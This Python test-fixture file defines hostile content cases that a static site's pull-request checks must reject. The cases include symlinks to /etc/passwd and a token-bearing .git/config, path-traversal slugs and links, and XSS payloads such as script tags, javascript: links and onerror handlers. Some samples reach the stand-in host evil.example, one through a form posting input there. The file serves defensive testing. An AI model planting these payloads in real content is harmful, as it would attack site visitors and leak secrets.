"""Content files a hostile or careless editor could put in a pull request (issue 9).

Each case is (name, files, expected): `files` maps a path under content/ to its text (str),
its bytes, or a Link to another file; `expected` is a fragment of the problem the checks must
report, or HANDLED when the case must build (the hub accepts or neutralises it). Paths may
climb out of content/ ("../secret.txt") to put a file beside it, as a pull request can.
Every case's files carry the word SECRET or evil.example where a leak would show.
"""

import datetime
import os
from dataclasses import dataclass
from pathlib import Path

from hub_checks.source_checks import check_content
from hub_kernel.pelican_items import shown_as


@dataclass(frozen=True)
class Link:
    """A symbolic link to `target` (relative to the folder that holds content/)."""

    target: str


HANDLED = None

GOOD = """\
Title: A hostile test page
Summary: A page written by the tests.
Topic: adjustments
Audience: employers
Reviewed: 2026-11-22
Review_due: 2027-11-22
Sources: 000 para 29

Some text.

## A heading

{body}
"""

CASE_STUDY = """\
Title: A story
Summary: A story.
Sector: retail
Employer_size: small
Difficulties: anxiety
Adjustments: buddy
Outcome: {outcome}
Year: 2009
Reviewed: 2026-11-22
Review_due: 2027-11-22
Sources: 000 Box 10

Text.
"""


def page(body="More text.", **fields):
    """A valid guidance page with `body`, and front-matter lines replaced or added."""
    text = GOOD.replace("{body}", body)
    for key, value in fields.items():
        key = key.capitalize()
        lines = text.split("\n")
        known = [i for i, line in enumerate(lines) if line.startswith(key + ":")]
        if value is None:
            lines = [line for i, line in enumerate(lines) if i not in known]
        elif known:
            lines[known[0]] = f"{key}: {value}"
        else:
            lines.insert(1, f"{key}: {value}")
        text = "\n".join(lines)
    return text


G = "guidance/hostile.md"
SECRET = "SECRET-TOKEN 1234\n"

CASES = [
    # --- 1. one gate for every file -----------------------------------------------------
    (
        "symlink page to a secret outside content",
        {"../secret.txt": SECRET, "pages/leak.md": Link("secret.txt")},
        "is a symbolic link",
    ),
    (
        "symlink page to the repository's git config",
        {"../.git/config": "[remote] token=SECRET\n", "pages/config.md": Link(".git/config")},
        "is a symbolic link",
    ),
    (
        "symlink image to a system file",
        {"images/passwd.png": Link("/etc/passwd")},
        "is a symbolic link",
    ),
    (
        "symlink to /dev/zero named .md",
        {"guidance/zero.md": Link("/dev/zero")},
        "is a symbolic link",
    ),
    (
        "symlinked folder",
        {"../outside/x.md": page(), "guidance/sub": Link("outside")},
        "is a symbolic link",
    ),
    ("symlinked folder to /", {"images/root": Link("/")}, "is a symbolic link"),
    (
        "symlinked data file",
        {"../secret.txt": SECRET, "data/extra.toml": Link("secret.txt")},
        "is a symbolic link",
    ),
    (
        "HTML page in pages/",
        {
            "pages/x.html": "<html><head><title>SECRET</title></head>"
            "<body><script>alert(1)</script></body></html>"
        },
        "which the hub does not publish",
    ),
    (
        "htm page in guidance/",
        {"guidance/x.htm": "<title>SECRET</title><p>hi</p>"},
        "which the hub does not publish",
    ),
    (
        "reStructuredText page",
        {"pages/x.rst": "SECRET\n######\n\n:summary: x\n\ntext\n"},
        "which the hub does not publish",
    ),
    (".markdown page", {"guidance/x.markdown": page()}, "which the hub does not publish"),
    (".mkd page", {"pages/x.mkd": "Title: SECRET\n\nx\n"}, "which the hub does not publish"),
    ("text file in guidance/", {"guidance/notes.txt": SECRET}, "which the hub does not publish"),
    (
        "HTML file among images",
        {"images/x.html": "<script>alert('SECRET')</script>"},
        "which the hub does not publish",
    ),
    (
        "SVG image (can carry scripts)",
        {
            "images/x.svg": "<svg xmlns='http://www.w3.org/2000/svg'>"
            "<script>alert('SECRET')</script></svg>"
        },
        "which the hub does not publish",
    ),
    (
        "script among images, one folder down",
        {"images/sub/x.js": "alert('SECRET')"},
        "which the hub does not publish",
    ),
    ("Markdown at the top of content/", {"x.md": page()}, "is not in one of the hub's"),
    ("a folder the hub does not use", {"drafts/x.md": page()}, "is not in one of the hub's"),
    ("non-TOML file in data/", {"data/notes.txt": SECRET}, "which the hub does not publish"),
    (
        "guidance one folder down, title only",
        {"guidance/sub/x.md": "Title: SECRET\n\nx\n"},
        "missing front matter 'Summary'",
    ),
    (
        "page three folders down, title only",
        {"pages/a/b/c/x.md": "Title: SECRET\n\nx\n"},
        "missing front matter 'Summary'",
    ),
    ("hidden Markdown file", {"guidance/.hidden.md": page()}, "is not a slug"),
    (
        "{static} link climbing out of content/",
        {"../../x.txt": SECRET, G: page("[x]({static}../../../x.txt)")},
        "points outside content/",
    ),
    (
        "{static} root link climbing out",
        {"../x.txt": SECRET, G: page("[x]({static}/../x.txt)")},
        "points outside content/",
    ),
    (
        "{attach} link climbing out",
        {"../x.txt": SECRET, G: page("[x]({attach}../../x.txt)")},
        "points outside content/",
    ),
    (
        "{static} image climbing out",
        {"../x.png": SECRET, G: page("![x]({static}../../x.png)")},
        "points outside content/",
    ),
    (
        "{filename} link climbing out",
        {"../x.md": page(), G: page("[x]({filename}../../x.md)")},
        "points outside content/",
    ),
    (
        "{static} link to a data file",
        {G: page("[x]({static}../data/sources.toml)")},
        "is not in content/images/",
    ),
    ("Slug: ..", {G: page(slug="..")}, "'Slug: ..' is not a slug"),
    ("Slug climbing out of output", {G: page(slug="../../../evil")}, "is not a slug"),
    ("Slug with a slash", {G: page(slug="a/b")}, "is not a slug"),
    ("Template: nope", {G: page(template="nope")}, "'Template: nope' is not"),
    ("Template climbing out", {G: page(template="../../etc/passwd")}, "is not"),
    ("Status: draft on a valid page", {G: page(status="draft")}, "'Status: draft'"),
    ("Status: nonsense", {G: page(status="bogus")}, "'Status: bogus'"),
    ("Date: nonsense", {G: page(date="tomorrow")}, "unknown front matter 'Date'"),
    ("Modified: nonsense", {G: page(modified="soon")}, "unknown front matter 'Modified'"),
    ("Lang on a page", {G: page(lang="xx")}, "unknown front matter 'Lang'"),
    ("Translation on a page", {G: page(translation="true")}, "unknown front matter 'Translation'"),
    # --- 3. bad files get a message ---------------------------------------------------
    (
        "duplicate Title: line",
        {G: page().replace("Summary:", "Title: Second\nSummary:")},
        "'Title' appears twice",
    ),
    (
        "duplicate Summary: line",
        {G: page().replace("Topic:", "Summary: Again.\nTopic:")},
        "'Summary' appears twice",
    ),
    ("empty file", {G: ""}, "is empty"),
    ("only spaces and blank lines", {G: "  \n\n \n"}, "is empty"),
    ("no front matter", {G: "Just a body.\n"}, "missing front matter 'Title'"),
    ("non-UTF-8 file", {G: page("Caf\u00e9 SECRET").encode("latin-1")}, "is not UTF-8 text"),
    ("UTF-16 file", {G: page().encode("utf-16")}, "is not UTF-8 text"),
    ("NUL bytes", {G: page("a\x00b")}, "holds a NUL character"),
    ("byte-order mark", {G: "\ufeff" + page()}, HANDLED),
    ("Windows line ends", {G: page().replace("\n", "\r\n")}, HANDLED),
    (
        "Reviewed in the future",
        {G: page(reviewed="2030-01-01", review_due="2031-01-01")},
        "is after today",
    ),
    (
        "Review_due in the past (overdue)",
        {G: page(reviewed="2024-01-01", review_due="2025-01-01")},
        HANDLED,
    ),
    ("impossible date", {G: page(reviewed="2026-02-30")}, "is not a date"),
    (
        "taxonomy.toml typo",
        {"data/taxonomy.toml": "[topics\nx = 'y'\n"},
        "content/data/taxonomy.toml:1: is not valid TOML",
    ),
    (
        "sources.toml typo",
        {"data/sources.toml": "[documents.000]\nkind = document\n"},
        "content/data/sources.toml:2: is not valid TOML",
    ),
    (
        "glossary.toml typo",
        {"data/glossary.toml": "[[term]]\nterm = 'x\n"},
        "content/data/glossary.toml:2: is not valid TOML",
    ),
    (
        "glossary.toml unknown field",
        {"data/glossary.toml": "[[term]]\nterm = 'x'\ndefinition = 'y'\ncolour = 'blue'\n"},
        "content/data/glossary.toml: term 'x' has unknown field 'colour'",
    ),
    (
        "glossary.toml term without definition",
        {"data/glossary.toml": "[[term]]\nterm = 'x'\n"},
        "content/data/glossary.toml: term 'x' has no 'definition'",
    ),
    ("synonyms.toml typo", {"data/synonyms.toml": "a = \n"}, "content/data/synonyms.toml"),
    (
        "taxonomy.toml not UTF-8",
        {"data/taxonomy.toml": "[topics]\nx = 'caf\u00e9'\n".encode("latin-1")},
        "content/data/taxonomy.toml: is not UTF-8 text",
    ),
    (
        "sources.toml missing a title",
        {"data/sources.toml": "[documents.000]\nkind = 'document'\n"},
        "content/data/sources.toml:1: [documents.000] has no 'title'",
    ),
    # --- 2. HTML in Markdown ----------------------------------------------------------
    ("script tag", {G: page("<script>alert('SECRET')</script>")}, "<script>"),
    (
        "meta refresh",
        {G: page('<meta http-equiv="refresh" content="0;url=https://evil.example/">')},
        "<meta>",
    ),
    ("javascript: Markdown link", {G: page("[x](javascript:alert('SECRET'))")}, "javascript:"),
    (
        "javascript: HTML link",
        {G: page('<a href="javascript:alert(1)">evil.example</a>')},
        "javascript:",
    ),
    ("vbscript: link", {G: page('<a href="vbscript:msgbox(1)">x</a>')}, "vbscript:"),
    ("data: link", {G: page('<a href="data:text/html,evil.example">x</a>')}, "data:"),
    ("http: link", {G: page("[x](http://evil.example/)")}, "http://evil.example/"),
    ("protocol-relative link", {G: page('<a href="//evil.example/">x</a>')}, "//evil.example/"),
    ("iframe", {G: page('<iframe src="https://evil.example/"></iframe>')}, "<iframe>"),
    (
        "form posting elsewhere",
        {
            G: page(
                '<form action="https://evil.example/"><input name="p"><button>Send</button></form>'
            )
        },
        "<form>",
    ),
    (
        "outside image (HTML)",
        {G: page('<img src="https://evil.example/t.png" alt="x">')},
        "https://evil.example/t.png",
    ),
    (
        "outside image (Markdown)",
        {G: page("![x](https://evil.example/t.png)")},
        "https://evil.example/t.png",
    ),
    (
        "outside image in srcset",
        {G: page('<img src="/x.png" srcset="https://evil.example/t.png 2x" alt="x">')},
        "srcset",
    ),
    ("event handler attribute", {G: page('<p onclick="alert(1)">evil.example</p>')}, "onclick"),
    ("img onerror", {G: page('<img src="x" onerror="alert(1)" alt="evil.example">')}, "onerror"),
    ("inline style", {G: page('<p style="position:fixed;top:0">evil.example</p>')}, "style"),
    ("style block", {G: page("<style>body{display:none} /* evil.example */</style>")}, "<style>"),
    ("object", {G: page('<object data="https://evil.example/x.swf"></object>')}, "<object>"),
    ("embed", {G: page('<embed src="https://evil.example/x.swf">')}, "<embed>"),
    ("base href", {G: page('<base href="https://evil.example/">')}, "<base>"),
    (
        "stylesheet link",
        {G: page('<link rel="stylesheet" href="https://evil.example/x.css">')},
        "<link>",
    ),
    (
        "inline SVG with script",
        {G: page("<svg><script>alert('evil.example')</script></svg>")},
        "<svg>",
    ),
    (
        "video from elsewhere",
        {G: page('<video src="https://evil.example/v.mp4"></video>')},
        "<video>",
    ),
    ("target=_blank", {G: page('<a href="/about/" target="_blank">evil.example</a>')}, "target"),
    (
        "attr_list onclick",
        {G: page('A paragraph about evil.example.\n{: onclick="alert(1)" }')},
        "onclick",
    ),
    (
        "class not in the theme's list",
        {G: page('<div class="evil-example">x</div>')},
        "evil-example",
    ),
    (
        "external link to a site not in sources.toml",
        {G: page("[x](https://evil.example/)")},
        "a site that is not in content/data/sources.toml",
    ),
    (
        "HTML in the Summary",
        {G: page(summary="<script>alert('SECRET')</script> A summary.")},
        "<script>",
    ),
    ("link in the Summary", {G: page(summary="[x](javascript:alert('SECRET'))")}, "javascript:"),
    (
        "boxes, abbr, kbd, details and tables",
        {
            G: page(
                '<div class="in-short" markdown="1">\n\n**In short:** press <kbd>Ctrl</kbd>.\n\n</div>\n\n'
                '<details><summary>More</summary>\n\nThe <abbr title="Equality Act">EA</abbr>.\n\n'
                "</details>\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n"
                "[Acas](https://www.acas.org.uk/) or [mail](mailto:x@example.org), "
                "[phone](tel:+440000000000), [home](/), [anchor](#a-heading)"
            )
        },
        HANDLED,
    ),
    # --- titles and other front matter are text ----------------------------------------
    (
        "HTML in the Title",
        {G: page(title="<img src=x onerror=alert(1)>SECRET <b>bold</b>")},
        HANDLED,
    ),
    (
        "HTML in a case study's Outcome",
        {
            "case-studies/story.md": CASE_STUDY.replace(
                "{outcome}", "<script>alert('SECRET')</script>Kept the job."
            )
        },
        HANDLED,
    ),
    ("very long title", {G: page(title="SECRET " * 2000)}, HANDLED),
]


def place(root: Path, files: dict) -> list[Path]:
    """Write a case's files under root/content (or beside it); the paths under content/."""
    content = root / "content"
    written = []
    for name, data in files.items():
        path = Path(os.path.normpath(content / name))
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, Link):
            target = data.target if data.target.startswith("/") else str(root / data.target)
            path.unlink(missing_ok=True)
            os.symlink(target, path)
        elif isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data, encoding="utf-8")
        if path.is_relative_to(content):
            written.append(path)
    return written


# The checks run on a copy of the real content, so "today" is the real day, as in the build:
# a page reviewed today must pass. The bad dates in CASES are years away from it.
TODAY = datetime.date.today()
TEMPLATES = {p.stem for p in (Path(__file__).parent.parent / "theme" / "templates").glob("*.html")}


def checked_content(content: Path):
    """The checks the build runs before reading (source_checks), in process, on `content`."""
    return check_content(content, lambda p: shown_as(p, content.parent), TODAY, TEMPLATES)
